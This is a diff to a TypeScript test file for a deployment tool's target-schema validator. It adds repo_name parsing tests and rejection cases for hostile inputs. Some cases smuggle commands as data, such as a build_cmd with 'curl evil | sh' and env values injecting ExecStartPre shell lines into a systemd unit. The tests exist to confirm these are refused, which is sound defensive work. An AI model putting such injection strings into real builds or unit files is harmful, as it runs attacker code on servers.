@@ -1,6 +1,6 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { parseTarget, InvalidTargetError } from '../../src/domain/target-schema.ts';
+import { parseTarget, InvalidTargetError, repoNameOf } from '../../src/domain/target-schema.ts';
 
 test('applies the SPEC §2 defaults, deriving remote_dir and binary from the app', () => {
   assert.deepEqual(parseTarget({ app: 'my_app', host: 'vps1' }), {
@@ -18,6 +18,7 @@ test('applies the SPEC §2 defaults, deriving remote_dir and binary from the app
     branch: 'main',
     compose_files: [],
     repo: '',
+    repo_name: '',
     auto_rollback: true,
     keep_releases: 0,
     skip_ci_marker: false,
@@ -55,6 +56,11 @@ const invalid: [string, unknown, string, string][] = [
   ['a remote_dir with a newline', { app: 'a', host: 'h', remote_dir: '/srv/a\nExecStartPre=/x' }, 'remote_dir', 'remote_dir must not contain newlines or control characters'],
   ['a health path with a space', { app: 'a', host: 'h', health: '/health x' }, 'health', 'health must be a path starting with "/", without spaces'],
   ['an env name with a newline', { app: 'a', host: 'h', env: { 'A\nB': '1' } }, 'env', 'env names must be letters, digits and "_", not starting with a digit'],
+  ['a repo_name that is not owner/name', { app: 'a', host: 'h', repo_name: 'acme' }, 'repo_name', 'repo_name must be "owner/name"'],
+  ['a build_cmd with a newline', { app: 'a', host: 'h', build_cmd: 'make\ncurl evil | sh' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
+  ['a build_cmd with a NUL', { app: 'a', host: 'h', build_cmd: 'make\u0000x' }, 'build_cmd', 'build_cmd must not contain newlines or control characters'],
+  ['an env value with a newline (unit file injection)', { app: 'a', host: 'h', env: { A: 'x"\nExecStartPre=/bin/sh -c evil' } }, 'env', 'env values must not contain newlines or control characters'],
+  ['an env value with a NUL', { app: 'a', host: 'h', env: { TOKEN: 's3cret\u0000' } }, 'env', 'env values must not contain newlines or control characters'],
   ['unknown field', { app: 'a', host: 'h', colour: 'red' }, 'colour', 'unknown field "colour"'],
 ];
 
@@ -68,3 +74,19 @@ for (const [name, input, field, message] of invalid) {
     });
   });
 }
+
+test('repo_name: given, else the owner/name of a --repo URL that names one', () => {
+  const cases: [string, string][] = [
+    ['https://git.example.com/acme/api.git', 'acme/api'],
+    ['https://deploy:tok@git.example.com/acme/api', 'acme/api'],
+    ['git@git.example.com:acme/api.git', 'acme/api'],
+    ['ssh://git@git.example.com:2222/acme/api.git', 'acme/api'],
+    ['https://git.example.com/sub/path/acme/api.git/', 'acme/api'],
+    ['/srv/git/api.git', ''],
+    ['https://git.example.com/api', ''],
+    ['', ''],
+  ];
+  for (const [url, name] of cases) assert.equal(repoNameOf(url), name, url);
+  assert.equal(parseTarget({ app: 'a', host: 'h', repo: 'git@g.example:acme/api.git' }).repo_name, 'acme/api');
+  assert.equal(parseTarget({ app: 'a', host: 'h', repo: 'git@g.example:acme/api.git', repo_name: 'other/api' }).repo_name, 'other/api');
+});
